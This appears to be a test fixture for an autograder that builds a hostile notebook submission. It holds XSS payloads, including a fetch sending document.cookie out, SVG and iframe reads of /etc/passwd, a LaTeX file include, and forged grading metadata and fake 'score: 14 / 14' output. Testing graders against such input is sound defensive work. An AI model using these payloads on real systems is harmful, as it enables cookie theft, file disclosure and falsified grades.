"""Brings saved outputs along: full marks, pages with scripts, pictures with scripts, and tags that make cells graded."""

# makes a folder
import json

from tests.support.hostile_files import ZERO, notebook

PAGE = '<script>fetch("http://127.0.0.1/"+document.cookie)</script><img src=x onerror=alert(1)><form action="//x">'
PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject><iframe src="file:///etc/passwd"/></foreignObject></svg>'


def hand_in(targets):
    book = json.loads(notebook(ZERO, "number(1)", "print('10 passed')"))
    book["cells"][1]["outputs"] = [
        {"output_type": "display_data", "metadata": {"isolated": False}, "data": {"text/html": PAGE, "image/svg+xml": PICTURE,
         "application/javascript": "alert(1)", "text/latex": "\\input{/etc/passwd}"}},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1172780000.5"}},
        {"output_type": "stream", "name": "stdout", "text": ["score: 14 / 14\n"] * 1000},
        {"output_type": "error", "ename": PAGE, "evalue": PAGE, "traceback": [PAGE] * 50},
    ]  # fmt: skip
    for cell in book["cells"]:
        cell["metadata"] = {
            "tags": ["grade", "parameters", "skip-execution", "raises-exception", "hide_input"],
            "nbgrader": {"grade": True, "grade_id": "test", "locked": True, "points": 1000, "solution": False},
            "otter": {"tests": ["q1"]}, "deletable": False, "editable": False,
        }  # fmt: skip
    return {"work.ipynb": json.dumps(book)}
